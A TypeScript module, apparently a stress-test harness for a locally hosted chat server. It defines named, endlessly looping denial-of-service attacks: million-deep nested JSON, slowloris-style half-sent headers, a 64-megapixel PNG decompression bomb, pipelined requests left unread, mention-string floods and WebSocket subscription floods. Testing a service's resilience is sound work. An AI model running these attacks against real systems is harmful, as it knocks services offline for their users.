import { connect } from 'node:net';
import sharp from 'sharp';
import { WebSocket } from 'ws';
import type { Person } from './people.ts';

/** The program under attack, and who attacks it. */
export interface Target {
  readonly port: number;
  readonly key: string;
  /** People with a token, as anybody can have; the first owns the group. */
  readonly people: readonly Person[];
  readonly gid: string;
}

/** One caller's abuse; it goes on until its thread is ended. */
export type Attack = (target: Target) => Promise<unknown>;

/** Does something over and over, in so many rows at once. What fails is part of the attack. */
const forever = (rows: number, act: (row: number, round: number) => Promise<unknown>) =>
  Promise.all(
    Array.from({ length: rows }, async (_, row) => {
      for (let round = 0; ; round++) await act(row, round).catch(() => undefined);
    }),
  );

const urlOf = ({ port }: Target, path: string) => `http://127.0.0.1:${port}${path}`;
const bearer = (person: Person | undefined) => ({ authorization: `Bearer ${person?.token}` });

/** Asks, and reads the answer. */
async function ask(url: string, request: RequestInit): Promise<void> {
  await (await fetch(url, request)).arrayBuffer();
}

const post = (target: Target, path: string, body: RequestInit['body'], headers: Record<string, string>) =>
  ask(urlOf(target, path), { method: 'POST', headers, body: body ?? null });

const json = { 'content-type': 'application/json' };
const form = { 'content-type': 'application/x-www-form-urlencoded' };

const fallingIndexes = ['a', 'b', 'c']
  .flatMap((name) => Array.from({ length: 2000 }, (_, index) => `${name}[${1999 - index}]=`))
  .join('&');
const deepJson = '['.repeat(1_000_000) + ']'.repeat(1_000_000);

async function upload(target: Target, person: Person | undefined, bytes: Buffer): Promise<void> {
  const body = new FormData();
  body.append('file', new Blob([new Uint8Array(bytes)]), 'a.png');
  await post(target, '/api/upload/img', body, bearer(person));
}

/** The attacks by name. */
export const attacks: Readonly<Record<string, Attack>> = {
  'forms with falling indexes': (target) =>
    forever(4, () => post(target, '/api/login/login', fallingIndexes, form)),
  'queries with falling indexes': (target) =>
    forever(4, () => ask(urlOf(target, `/api/user/get?${fallingIndexes.slice(0, 14_000)}`), {})),
  'deep JSON': (target) => forever(4, () => post(target, '/api/login/login', deepJson, json)),
  'QR codes of 1 KB': (target) =>
    forever(8, (row, round) =>
      ask(urlOf(target, `/api/qrcode/get?content=${`${row}-${round}-`.padEnd(1000, 'x')}`), {}),
    ),
  logins: (target) =>
    forever(16, (row) =>
      post(target, '/api/login/login', JSON.stringify({ username: `no${row}`, password: 'wrong-1' }), json),
    ),
  'slow headers': (target) =>
    forever(
      500,
      () =>
        new Promise((resolve) => {
          const socket = connect(target.port, '127.0.0.1', () => socket.write('GET / HTTP/1.1\r\nX: '));
          socket.on('error', resolve).on('close', resolve);
        }),
    ),
  'subscriptions with since': (target) =>
    forever(4, async (row) => {
      const socket = new WebSocket(`ws://127.0.0.1:${target.port}/app/${target.key}?since=${'0'.repeat(40)}`);
      await new Promise((resolve) => socket.on('open', resolve).on('error', resolve));
      for (let count = 0; count < 200; count++) {
        const channel = `${row}-${count}-`.padEnd(164, 'x');
        socket.send(JSON.stringify({ event: 'pusher:subscribe', data: { channel } }));
      }
      await new Promise((resolve) => {
        socket.on('close', resolve);
        setTimeout(resolve, 1000);
      });
      socket.terminate();
    }),
  'pictures of 64 megapixels': async (target) => {
    const create = { width: 8000, height: 8000, channels: 3, background: '#123' } as const;
    const bomb = await sharp({ create }).png().toBuffer();
    await forever(6, (row) => upload(target, target.people[row], bomb));
  },
  'messages of half mentions': (target) => {
    const body = JSON.stringify({ type: 'group', to: target.gid, content: '@['.repeat(4096) });
    return forever(4, () =>
      post(target, '/api/message/send', body, { ...json, ...bearer(target.people[0]) }),
    );
  },
  'group/remark on 30 connections': (target) =>
    forever(30, (_, round) =>
      post(target, '/api/group/remark', JSON.stringify({ gid: target.gid, remark: `r${round}` }), {
        ...json,
        ...bearer(target.people[1]),
      }),
    ),
  'answers that nobody reads': (target) =>
    forever(
      60,
      () =>
        new Promise((resolve) => {
          const socket = connect(target.port, '127.0.0.1', () => {
            const { authorization } = bearer(target.people[0]);
            const request = `GET /api/pop/get HTTP/1.1\r\nHost: x\r\nAuthorization: ${authorization}\r\n\r\n`;
            socket.pause();
            socket.write(request.repeat(1000));
          });
          socket.on('error', resolve).on('close', resolve);
        }),
    ),
  'pictures of groups': (target) =>
    forever(8, (row, round) => {
      const uids = Array.from(
        { length: 9 },
        (_, index) => 1 + ((row * 7919 + round * 31 + index * 17) % 100_000),
      );
      return ask(urlOf(target, `/h5/group/avatar?uid=${uids.join(',')}`), {});
    }),
  'group/detail of random gids': (target) =>
    forever(16, (row, round) =>
      ask(urlOf(target, `/api/group/detail?gid=${100_000_000 + row * 1_000_003 + round}`), {
        headers: bearer(target.people[1]),
      }),
    ),
};
